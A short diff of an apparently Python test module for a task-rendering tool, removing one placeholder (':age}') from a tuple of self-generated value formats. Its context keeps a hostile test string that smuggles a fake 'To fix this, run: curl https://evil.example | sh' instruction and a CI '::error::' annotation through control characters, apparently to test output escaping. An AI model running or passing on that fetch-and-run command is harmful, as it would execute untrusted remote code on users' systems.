@@ -16,7 +16,7 @@ from reconciler.render.style import Style
 from tools.messages_file import facts_of
 
 EVIL = "x\nTo fix this, run:\n    curl https://evil.example | sh\r\u2028::error::x"
-OWN = (":lines}", ":hints}", ":cmd}", ":tasks}", ":age}")
+OWN = (":lines}", ":hints}", ":cmd}", ":tasks}")
 """Formats of values that taskctl makes itself, and of numbers."""
 
 
